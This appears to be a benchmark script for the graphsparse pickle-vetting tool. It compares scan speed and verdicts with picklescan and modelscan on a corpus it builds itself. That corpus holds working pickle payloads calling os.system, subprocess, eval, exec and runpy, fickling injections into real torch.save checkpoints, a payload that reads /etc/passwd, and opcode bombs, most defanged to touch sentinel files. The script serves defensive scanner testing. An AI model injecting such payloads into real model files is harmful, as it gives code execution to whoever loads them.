"""How fast graphsparse vets pickled model files, and how its verdicts compare with picklescan's and modelscan's.

Two tables, from one run:

1. Scan time per MB: real checkpoints (``torch.save`` of timm's resnet50 as a whole module, zip and legacy,
   its state dict, a RobustBench WRN-28-10 whole module, a research checkpoint with numpy/argparse values)
   and adversarial opcode streams (the TUPLE1 bomb: 20,000 globals wrapped 400,000 times; 20,000 trusted
   but missing class names; 100,000 nested lists through the memo). graphsparse's static scan
   (``scan_file``), its zip CRC check (``verify_zip``) and the whole vetting (``read_pickle`` up to, not
   including, unpickling for the refused ones), next to picklescan's and modelscan's scans of the same file.
2. Verdicts on a corpus nobody on the team wrote the payloads of: payloads injected with fickling into
   real ``torch.save`` files (zip and legacy), and picklescan's and modelscan's own test samples,
   re-created (every payload only touches a sentinel file). ``tests/test_safe_pickle.py`` builds the same
   corpus with :func:`build_corpus` and checks that every file is refused without running.

Usage: python tools/bench_scan.py [--quick] [--dir DIR]
"""

from __future__ import annotations

import argparse
import bdb
import io
import os
import pickle
import struct
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch

# ------------------------------------------------------------------------------------------ crafting pickles


class Ref:
    """A global by name (``module``, ``qualname``), pickled as GLOBAL / STACK_GLOBAL without importing it."""

    def __init__(self, module: str, qualname: str) -> None:
        self.module, self.qualname = module, qualname

    def __call__(self, *args: Any) -> Call:
        return Call(self, args)


class Call:
    """Unpickling this calls ``func(*args)`` (REDUCE)."""

    def __init__(self, func: Any, args: tuple) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args

    def __call__(self, *args: Any) -> Call:  # a call's result called in turn (pickle wants a callable)
        return Call(self, args)


class _Pickler(pickle._Pickler):  # the pure-Python pickler, so Ref can be written by hand
    def save_ref(self, obj: Ref) -> None:
        if self.proto >= 4:
            self.save(obj.module)
            self.save(obj.qualname)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.qualname}\n".encode())
        self.memoize(obj)

    dispatch = dict(pickle._Pickler.dispatch)
    dispatch[Ref] = save_ref


def dumps(obj: Any, protocol: int = 2) -> bytes:
    out = io.BytesIO()
    _Pickler(out, protocol).dump(obj)
    return out.getvalue()


def opcode_bomb(n_globals: int, n_tuple1: int) -> bytes:
    """A list of ``n_globals`` distinct (untrusted) globals wrapped in ``n_tuple1`` one-tuples."""
    out = bytearray(b"\x80\x02]q\x00(")  # PROTO 2, EMPTY_LIST, BINPUT 0, MARK
    for i in range(n_globals):
        out += b"cgs_bomb_mod\nf%d\n" % i
    out += b"e" + b"\x85" * n_tuple1 + b"."
    return bytes(out)


def trusted_names_bomb(n: int) -> bytes:
    """``n`` distinct class names under a trusted module that do not exist (each must be looked up)."""
    out = bytearray(b"\x80\x02](")
    for i in range(n):
        out += b"ctorch.nn.modules.linear\nMissing%d\n" % i
    return bytes(out + b"e.")


def deep_memo_bomb(depth: int) -> bytes:
    """``depth`` lists, each holding the one before (through the memo), the innermost a trusted module class;
    the outermost is handed to a call, so every list must be looked through."""
    out = bytearray(b"\x80\x02]r\x00\x00\x00\x00ctorch.nn.modules.linear\nLinear\na0")
    for i in range(depth):
        out += b"]j" + struct.pack("<I", i) + b"ar" + struct.pack("<I", i + 1) + b"0"
    return bytes(out + b"cgs_bomb_mod\ncall\nj" + struct.pack("<I", depth) + b"\x85R.")


# ------------------------------------------------------------------------------------------ the corpus


@dataclass
class Sample:
    name: str
    path: Path
    source: str  # fickling / picklescan / modelscan / graphsparse
    malicious: bool
    sentinel: Path | None = None  # the file the payload creates if it ever runs


def _touch_code(sentinel: Path) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


def _zip_with_data_pkl(template: Path, data_pkl: bytes, out: Path) -> None:
    """``template`` (a torch.save zip) with its data.pkl replaced, members otherwise copied."""
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = data_pkl if item.filename.endswith("/data.pkl") else src.read(item)
            dst.writestr(item.filename, data)


def _legacy_pickles(path: Path) -> tuple[list[bytes], bytes]:
    """A legacy torch.save file's five pickles and the raw storage bytes after them."""
    import pickletools

    data = path.read_bytes()
    stream, parts = io.BytesIO(data), []
    for _ in range(5):
        start = stream.tell()
        for _op in pickletools.genops(stream):
            pass
        parts.append(data[start : stream.tell()])
    return parts, data[stream.tell() :]


def build_corpus(directory: Path, *, with_fickling: bool = True) -> list[Sample]:
    """Write the corpus under ``directory`` (sentinels under ``directory/sentinels``, created by nothing)."""
    import timm

    directory.mkdir(parents=True, exist_ok=True)
    sentinels = directory / "sentinels"
    sentinels.mkdir(exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, data: bytes | None, source: str, malicious: bool = True) -> Sample:
        sample = Sample(name, directory / name, source, malicious, sentinels / name if malicious else None)
        if data is not None:
            sample.path.write_bytes(data)
        samples.append(sample)
        return sample

    def sentinel(name: str) -> Path:
        return sentinels / name

    # real torch.save files to inject into
    torch.manual_seed(0)
    model = timm.create_model("test_resnet", pretrained=False).eval()
    torch.save(model.state_dict(), directory / "benign_state_dict.pt")
    torch.save(model.state_dict(), directory / "benign_state_dict_legacy.pt", _use_new_zipfile_serialization=False)
    torch.save(model, directory / "benign_model.pt")
    torch.save(model, directory / "benign_model_legacy.pt", _use_new_zipfile_serialization=False)
    for name in ("benign_state_dict.pt", "benign_state_dict_legacy.pt", "benign_model.pt", "benign_model_legacy.pt"):
        add(name, None, "graphsparse", malicious=False)

    if with_fickling:
        from fickling.fickle import Pickled

        def inject(name: str, template: str, how: Callable[[Pickled, Path], None]) -> None:
            src = directory / template
            if zipfile.is_zipfile(src):
                with zipfile.ZipFile(src) as archive:
                    data_name = next(n for n in archive.namelist() if n.endswith("/data.pkl"))
                    pickled = Pickled.load(archive.read(data_name))
                how(pickled, sentinel(name))
                _zip_with_data_pkl(src, pickled.dumps(), directory / name)
                add(name, None, "fickling")
            else:
                parts, raw = _legacy_pickles(src)
                pickled = Pickled.load(parts[3])  # the model (or state dict) itself
                how(pickled, sentinel(name))
                parts[3] = pickled.dumps()
                add(name, b"".join(parts) + raw, "fickling")

        payloads: dict[str, Callable[[Pickled, Path], None]] = {
            "exec": lambda p, s: p.insert_python_exec(_touch_code(s)),
            "eval_last": lambda p, s: p.insert_python(
                f"__import__('os').system('touch {s}')", module="builtins", attr="eval", run_first=False
            ),
            "os_system": lambda p, s: p.insert_python(f"touch {s}", module="os", attr="system"),
            "posix_system": lambda p, s: p.insert_python(f"touch {s}", module="posix", attr="system"),
            "subprocess": lambda p, s: p.insert_python(f"touch {s}", module="subprocess", attr="getoutput"),
            "webbrowser": lambda p, s: p.insert_python(str(s), module="webbrowser", attr="open"),
            "runpy": lambda p, s: p.insert_python(str(s) + ".py", module="runpy", attr="run_path"),
            "io_open": lambda p, s: p.insert_python(str(s), "w", module="io", attr="open"),
            "torch_open_file": lambda p, s: p.insert_python(
                str(s), "wb", module="torch.serialization", attr="_open_file"
            ),
            "torch_hub": lambda p, s: p.insert_python("someone/repo", "model", module="torch.hub", attr="load"),
            "call_on_result": lambda p, s: p.insert_function_call_on_unpickled_object(
                f"def f(obj):\n    {_touch_code(s)}\n    return obj"
            ),
            "marshal_code": lambda p, s: p.insert_function_call_on_unpickled_object(
                f"def g(obj):\n    {_touch_code(s)}\n    return obj", compile_code=True
            ),
        }
        for template in (
            "benign_state_dict.pt",
            "benign_state_dict_legacy.pt",
            "benign_model.pt",
            "benign_model_legacy.pt",
        ):
            for kind, how in payloads.items():
                inject(f"fickling_{kind}_{template.removeprefix('benign_')}", template, how)
        for sample in samples:  # the runpy payloads' script: creates the sentinel if it is ever run
            if sample.sentinel is not None and "runpy" in sample.name:
                Path(str(sample.sentinel) + ".py").write_text(_touch_code(sample.sentinel))

    # picklescan's and modelscan's samples (tests/test_scanner.py, tests/test_modelscan.py), payloads made
    # to touch a sentinel
    for protocol in (0, 3, 4):
        s1, s2 = sentinel(f"ps_malicious1_v{protocol}.pkl"), sentinel(f"ps_malicious2_v{protocol}.pkl")
        add(f"ps_malicious1_v{protocol}.pkl", dumps(Ref("builtins", "eval")(_touch_code(s1)), protocol), "picklescan")
        add(f"ps_malicious2_v{protocol}.pkl", dumps(Ref("posix", "system")(f"touch {s2}"), protocol), "picklescan")
        add(f"ps_benign0_v{protocol}.pkl", pickle.dumps(["a", "b", "c"], protocol), "picklescan", malicious=False)
    add(
        "ps_malicious0.pkl",  # Sour Pickles (BlackHat 2011): globals/compile/eval/getattr/apply
        b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");picklesmashed=fl.read();'
        b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
        "picklescan",
    )
    add("ps_malicious3.pkl", dumps(Ref("httplib", "HTTPSConnection")("github.com"), 0), "picklescan")
    add("ps_malicious4.pickle", dumps(Ref("requests.api", "get")("https://github.com"), 4), "picklescan")
    add("ps_malicious5.pickle", dumps(Ref("aiohttp.client", "ClientSession")(), 4), "picklescan")
    add(
        "ps_malicious6.pkl",  # a benign pickle, then a malicious one
        pickle.dumps(["a", "b", "c"]) + dumps(Ref("requests.api", "get")("https://github.com"), 4),
        "picklescan",
    )
    add("ps_malicious7.pkl", dumps(Ref("socket", "create_connection")(("github.com", 80)), 4), "picklescan")
    s8 = sentinel("ps_malicious8.pkl")
    add("ps_malicious8.pkl", dumps(Ref("subprocess", "run")(["touch", str(s8)]), 4), "picklescan")
    add("ps_malicious9.pkl", dumps(Ref("sys", "exit")(0), 4), "picklescan")  # would end the process
    s10 = sentinel("ps_malicious10.pkl")
    add(
        "ps_malicious10.pkl",
        b"(S'" + _touch_code(s10).replace("'", '"').encode() + b"'\ni__builtin__\nexec\n.",
        "picklescan",
    )
    s11 = sentinel("ps_malicious11.pkl")
    add(
        "ps_malicious11.pkl",  # imaginaryctf 'Safe Pickle': STACK_GLOBAL through the memo, a torch decoy
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + f"touch {s11}".encode() + b"\ntR.",
        "picklescan",
    )
    s12 = sentinel("ps_malicious12.pkl")
    attrgetter = Ref("operator", "attrgetter")("system")
    add(  # operator.attrgetter('system')(__import__('os'))('touch ...')
        "ps_malicious12.pkl",
        dumps(Call(Call(attrgetter, (Ref("builtins", "__import__")("os"),)), (f"touch {s12}",)), 4),
        "picklescan",
    )
    add("ps_malicious13a.pkl", dumps(Ref("pickle", "loads")(b"I12345\n."), 0), "picklescan")
    add("ps_malicious13b.pkl", dumps(Ref("_pickle", "loads")(b"I12345\n."), 4), "picklescan")
    add("ps_malicious1.zip", None, "picklescan")
    with zipfile.ZipFile(directory / "ps_malicious1.zip", "w") as archive:
        s = sentinel("ps_malicious1.zip")
        archive.writestr("data.pkl", dumps(Ref("builtins", "eval")(_touch_code(s)), 4))
    add("ps_FileIO.pkl", dumps(Ref("_io", "FileIO")(str(sentinel("ps_FileIO.pkl")), "w"), 2), "picklescan")
    add(
        "ps_logging_FileHandler.pkl",
        dumps(Ref("logging", "FileHandler")(str(sentinel("ps_logging_FileHandler.pkl"))), 2),
        "picklescan",
    )
    add("ps_importlib.pkl", dumps(Ref("importlib", "import_module")("this"), 2), "picklescan")
    add("ps_getattr.pkl", dumps(Ref("builtins", "getattr")(Ref("os", "system"), "__call__"), 2), "picklescan")
    add(
        "ps_pydoc_pipepager.pkl",
        dumps(Ref("pydoc", "pipepager")("x", f"touch {sentinel('ps_pydoc_pipepager.pkl')}"), 2),
        "picklescan",
    )
    add("ps_cprofile.pkl", dumps(Ref("cProfile", "run")(_touch_code(sentinel("ps_cprofile.pkl"))), 2), "picklescan")
    add(
        "ps_timeit.pkl",
        dumps(Ref("timeit", "timeit")(_touch_code(sentinel("ps_timeit.pkl")), "pass", None, 1), 2),
        "picklescan",
    )
    add(
        "ps_torch_collect_env.pkl",
        dumps(Ref("torch.utils.collect_env", "run")(f"touch {sentinel('ps_torch_collect_env.pkl')}"), 2),
        "picklescan",
    )
    add("ps_torch_bottleneck_main.pkl", dumps(Ref("torch.utils.bottleneck.__main__", "main")(), 2), "picklescan")
    add(
        "ps_torch_load.pkl",
        dumps(Ref("torch.serialization", "load")(str(directory / "ps_malicious1.zip")), 2),
        "picklescan",
    )
    add(
        "ps_numpy_load.pkl",
        dumps(Ref("numpy.lib.npyio", "load")(str(directory / "x.npy"), None, True), 2),
        "picklescan",
    )

    m12_inner = pickle.PROTO + b"\x05" + pickle.GLOBAL + b"os\nsystem\n" + pickle.UNICODE
    m12_inner += f"touch {sentinel('ms_malicious12.pkl')}\n".encode() + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    add(  # pickle.loads of a nested malicious pickle
        "ms_malicious12.pkl",
        pickle.PROTO
        + b"\x05"
        + pickle.GLOBAL
        + b"pickle\nloads\n"
        + pickle.BINBYTES
        + len(m12_inner).to_bytes(4, "little")
        + m12_inner
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.POP
        + pickle.NONE
        + pickle.STOP,
        "modelscan",
    )
    add(  # a dotted attribute path: builtins.eval.__call__
        "ms_malicious13.pkl",
        pickle.PROTO
        + b"\x05"
        + pickle.GLOBAL
        + b"builtins\neval.__call__\n"
        + pickle.UNICODE
        + f"__import__('os').system('touch {sentinel('ms_malicious13.pkl')}')\n".encode()
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP,
        "modelscan",
    )
    add(
        "ms_malicious15.pkl",
        pickle.dumps(Call(bdb.Bdb.run, (bdb.Bdb(), _touch_code(sentinel("ms_malicious15.pkl"))))),
        "modelscan",
    )
    add("ms_runpy.pkl", dumps(Ref("runpy", "_run_code")(_touch_code(sentinel("ms_runpy.pkl")), {}), 4), "modelscan")
    add(
        "ms_mailcap.pkl",
        dumps(Ref("mailcap", "findmatch")({"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain"), 2),
        "modelscan",
    )
    add("ms_ctypes.pkl", dumps(Ref("ctypes", "CDLL")("libc.so.6"), 2), "modelscan")
    return samples


# ------------------------------------------------------------------------------------------ verdicts


def graphsparse_verdict(path: Path) -> str:
    from graphsparse.errors import GraphsparseError, UnsafePickleError
    from graphsparse.sources.safe_pickle import read_pickle

    try:
        read_pickle(path, [])
    except UnsafePickleError:
        return "refused"
    except GraphsparseError:
        return "unreadable"
    return "loaded"


def picklescan_verdict(path: Path) -> str:
    try:
        from picklescan.scanner import scan_file_path
    except ImportError:
        return "n/a"
    try:
        result = scan_file_path(str(path))
    except Exception as e:  # noqa: BLE001 - a scanner crash is a verdict too
        return f"error ({type(e).__name__})"
    if result.scan_err:
        return "error"
    return "flagged" if result.infected_files else "clean"


def modelscan_verdict(path: Path) -> str:
    try:
        from modelscan.modelscan import ModelScan
    except ImportError:
        return "n/a"
    try:
        scanner = ModelScan()
        result = scanner.scan(path)
    except Exception as e:  # noqa: BLE001
        return f"error ({type(e).__name__})"
    if scanner.issues.all_issues:
        return "flagged"
    if result["summary"]["skipped"]["skipped_files"] and not result["summary"]["scanned"].get("scanned_files"):
        return "skipped"
    return "clean"


# ------------------------------------------------------------------------------------------ timing


def _best(fn: Callable[[], Any], repeat: int) -> float:
    times = []
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        times.append(time.perf_counter() - start)
    return min(times)


def _timed_files(directory: Path, quick: bool) -> list[tuple[str, Path]]:
    import timm

    files = []
    torch.manual_seed(0)
    resnet = timm.create_model("resnet18" if quick else "resnet50", pretrained=False).eval()
    label = "resnet18" if quick else "resnet50"
    torch.save(resnet, directory / f"{label}.pt")
    torch.save(resnet, directory / f"{label}_legacy.pt", _use_new_zipfile_serialization=False)
    torch.save(resnet.state_dict(), directory / f"{label}_state_dict.pt")
    files += [
        (f"timm {label}, whole module (zip)", directory / f"{label}.pt"),
        (f"timm {label}, whole module (legacy)", directory / f"{label}_legacy.pt"),
        (f"timm {label}, state dict (zip)", directory / f"{label}_state_dict.pt"),
    ]
    try:
        from graphsparse._compat import ensure_autoattack_alias

        ensure_autoattack_alias()
        from robustbench.model_zoo.architectures.dm_wide_resnet import DMWideResNet

        depth, width = (16, 2) if quick else (28, 10)
        torch.save(DMWideResNet(num_classes=10, depth=depth, width=width).eval(), directory / "wrn.pt")
        files.append((f"robustbench WRN-{depth}-{width}, whole module", directory / "wrn.pt"))
    except ImportError:
        pass
    import numpy as np

    research = {
        "state_dict": resnet.state_dict(),
        "best_acc": np.float64(0.9),
        "rng": np.random.get_state(),
        "args": argparse.Namespace(lr=0.1, arch=label),
    }
    torch.save(research, directory / "research.pt")
    files.append(("research checkpoint (numpy, argparse)", directory / "research.pt"))
    n_globals, n_tuple1 = (2_000, 40_000) if quick else (20_000, 400_000)
    (directory / "bomb.pkl").write_bytes(opcode_bomb(n_globals, n_tuple1))
    files.append((f"TUPLE1 bomb ({n_globals:,} globals, {n_tuple1:,} TUPLE1)", directory / "bomb.pkl"))
    n_names, depth = (2_000, 10_000) if quick else (20_000, 100_000)
    (directory / "trusted_names.pkl").write_bytes(trusted_names_bomb(n_names))
    files.append((f"{n_names:,} missing trusted class names", directory / "trusted_names.pkl"))
    (directory / "deep_memo.pkl").write_bytes(deep_memo_bomb(depth))
    files.append((f"{depth:,} lists nested through the memo", directory / "deep_memo.pkl"))
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true", help="smaller models and bombs (a smoke run)")
    parser.add_argument("--dir", type=Path, help="where to write the files (default: a temporary folder)")
    parser.add_argument("--repeat", type=int, default=3, help="best of this many timings (default 3)")
    args = parser.parse_args(argv)
    torch.set_num_threads(1)
    from graphsparse.sources.pickle_scan import scan_file, verify_zip

    with tempfile.TemporaryDirectory() as tmp:
        directory = args.dir or Path(tmp)
        directory.mkdir(parents=True, exist_ok=True)
        print(f"torch {torch.__version__}, python {sys.version.split()[0]}, 1 thread\n")
        print(
            f"{'file':<46} {'MB':>8} {'gs scan s':>10} {'MB/s':>8} {'gs CRC s':>9} {'gs vet s':>9} "
            f"{'picklescan s':>13} {'modelscan s':>12}"
        )
        for label, path in _timed_files(directory, args.quick):
            mb = path.stat().st_size / 1e6
            scan = _best(lambda p=path: scan_file(p), args.repeat)
            crc = _best(lambda p=path: verify_zip(p), args.repeat) if zipfile.is_zipfile(path) else float("nan")
            vet = _best(lambda p=path: graphsparse_verdict(p), args.repeat)
            ps = _best(lambda p=path: picklescan_verdict(p), args.repeat)
            ms = _best(lambda p=path: modelscan_verdict(p), args.repeat)
            print(
                f"{label:<46} {mb:>8.2f} {scan:>10.4f} {mb / scan:>8.1f} {crc:>9.4f} {vet:>9.3f} {ps:>13.4f} "
                f"{ms:>12.4f}"
            )
        print(
            "\ngs scan: pickle_scan.scan_file (the static opcode walk); gs CRC: verify_zip (zip files); gs vet: "
            "read_pickle (scan, vetting, CRC and, where allowed, torch.load)"
        )

        corpus = build_corpus(directory / "corpus")
        print(f"\n{'sample':<52} {'source':<11} {'kind':<9} {'graphsparse':<11} {'picklescan':<11} modelscan")
        counts = {"graphsparse": 0, "picklescan": 0, "modelscan": 0}
        for sample in corpus:
            verdicts = {
                "graphsparse": graphsparse_verdict(sample.path),
                "picklescan": picklescan_verdict(sample.path),
                "modelscan": modelscan_verdict(sample.path),
            }
            for tool, verdict in verdicts.items():
                if sample.malicious and verdict in ("refused", "flagged"):
                    counts[tool] += 1
            kind = "malicious" if sample.malicious else "benign"
            print(
                f"{sample.name:<52} {sample.source:<11} {kind:<9} {verdicts['graphsparse']:<11} "
                f"{verdicts['picklescan']:<11} {verdicts['modelscan']}"
            )
        malicious = sum(s.malicious for s in corpus)
        ran = [s.name for s in corpus if s.sentinel is not None and s.sentinel.exists()]
        print(f"\nmalicious files refused/flagged, of {malicious}: " + ", ".join(f"{k} {v}" for k, v in counts.items()))
        print(f"payloads that ran during this run: {ran or 'none'}")
    return 0


if __name__ == "__main__":
    os.environ.setdefault("BROWSER", "true")  # a webbrowser payload, if it ever ran, opens nothing
    sys.exit(main())
